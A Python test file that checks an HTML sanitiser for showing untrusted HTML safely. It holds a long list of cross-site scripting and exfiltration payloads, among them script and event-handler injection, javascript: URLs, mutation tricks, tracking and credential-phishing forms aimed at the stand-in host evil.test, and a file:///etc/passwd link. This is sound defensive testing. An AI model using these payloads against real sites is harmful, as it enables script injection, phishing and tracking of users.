"""A stranger's HTML is shown without anything that acts, hides or fetches."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from foimail.output.safe_html import POLICY, page, safe_html

# Ways in which HTML has run scripts, fetched things or changed the page around it: by tag, by attribute, by address, by style,
# by broken nesting, by another parser's rules (mutation), by another language within it.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif?you' width=1 height=1>",
    "<img srcset='https://evil.test/a 1x'>",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.test/x.swf'>",
    "<applet code=x></applet>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.test/' onclick=alert(1)>x</a>",
    "<a href='foimail/decide?kind=refusal'>a link into our own page</a>",
    "<a ping='https://evil.test/' href='https://a.test/'>x</a>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<link rel=prefetch href='https://evil.test/x'>",
    "<style>@import 'https://evil.test/x.css'; * {display: none}</style>",
    "<p style='background: url(https://evil.test/x)'>x</p>",
    "<p style='position: fixed; inset: 0'>covers the page</p>",
    "<div class='button danger' id='approve'>looks like ours</div>",
    "<table background='https://evil.test/x.png'><tr><td background=//evil.test/y>x</table>",
    "<body background='https://evil.test/x' onload=alert(1)>",
    "<video src='https://evil.test/x' autoplay></video>",
    "<audio src='https://evil.test/x' autoplay onplay=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<picture><source srcset='https://evil.test/x'></picture>",
    "<form action='https://evil.test/'><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>",
    "<input type=image src='https://evil.test/x' formaction='javascript:alert(1)'>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open>covers</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xss onmouseover=alert(1) style='behavior:url(#x)'>x</xss>",
    "<p onmouseover=alert(1) onx\x0b=alert(1)>x</p>",
    "<blockquote cite='https://evil.test/'>x</blockquote>",
    "<a href='https://evil.test/' target=_self rel=opener>x</a>",
    "<b <script>alert(1)</script>0",
    "<title><img src=x onerror=alert(1)></title>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<portal src='https://evil.test/'></portal>",
    "<font color='red' size=7 face='x'>x</font>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "</div></td></table></main><h1>outside of its frame</h1>",
]
ALLOWED = {
    "href": re.compile(r"(https?://|mailto:)[^\s\x00-\x1f]*"),
    "rel": re.compile("noopener noreferrer nofollow"),
    "target": re.compile("_blank"),
    "dir": re.compile(".*"),
    "colspan": re.compile("[0-9]+"),
    "rowspan": re.compile("[0-9]+"),
}
ACTS = {
    *(
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "img",
        "svg",
        "math",
        "link",
        "meta",
        "base",
    ),
    *("video", "audio", "template", "noscript", "title", "plaintext", "xmp", "dialog", "details", "font"),
}


class Seen(HTMLParser):
    """Every tag with its attributes, and what is open at the end."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag not in {"br", "hr", "col"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "an end of what it did not begin would end what is around it"


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("around", ["{}", "<table><tr><td>{}", "<svg>{}</svg>", "<b>{}</i>"])
def test_nothing_that_acts_hides_or_fetches_is_left(vector: str, around: str) -> None:
    html = safe_html(around.format(vector))
    seen = Seen(html)
    assert not ACTS & set(seen.tags)
    assert not [
        pair for pair in seen.attributes if pair[0] not in ALLOWED or not ALLOWED[pair[0]].fullmatch(pair[1])
    ]
    assert seen.open == []
    assert "<!--" not in html
    assert safe_html(html).count("<a ") == html.count("<a ")


def test_what_a_person_wrote_is_left() -> None:
    html = "<p>We hold <b>14</b> &lt;5<br></p><table><tr><th>2019</th><td colspan=2>7</td></tr></table><ul><li>one</li></ul>"
    found = safe_html(html)
    for piece in ("<b>14</b>", "&lt;5", "<br>", "<th>2019</th>", '<td colspan="2">7</td>', "<li>one</li>"):
        assert piece in found


@pytest.mark.parametrize("span", ["99999", "0000000000001000000", "-1", "2.5", "\u0663"])
def test_no_cell_spans_more_than_a_page(span: str) -> None:
    assert "span=" not in safe_html(f"<table><tr><td colspan='{span}' rowspan='{span}'>x")


def test_a_picture_is_named_and_a_link_says_where_it_leads() -> None:
    found = safe_html(
        '<img src="https://evil.test/x"><a href="https://you@evil.test/x?&quot;>">www.ashcombe.example</a>'
    )
    assert found.startswith("[picture]<a ")
    assert "www.ashcombe.example [evil.test]</a>" in found
    assert safe_html('<a href="mailto:foi@ashcombe.example">write</a>').endswith(
        "write [foi@ashcombe.example]</a>"
    )


@pytest.mark.parametrize(
    "piece",
    ["<div>", "<b>", "<table><tr><td>", '<a href="http://a.test/', "<", "<p a=b ", "<!--", "<svg><p><style>"],
)
def test_a_page_built_to_be_slow_is_not(piece: str) -> None:
    began = time.perf_counter()
    safe_html(piece * 300_000)
    assert time.perf_counter() - began < 10


def test_a_page_of_very_many_tags_is_shown_as_its_text() -> None:
    assert safe_html("<div>a&b" * 30_000).startswith("<pre> a&amp;b a&amp;b")


def test_a_page_of_it_has_a_second_wall() -> None:
    whole = page("<p>Hello</p>", "</title><script>")
    assert "&lt;/title&gt;&lt;script&gt;" in whole
    assert 'content="default-src &#x27;none&#x27;' in whole
    assert "script-src" not in POLICY
    assert POLICY.endswith("; sandbox")
    assert "frame-ancestors 'self'" in POLICY
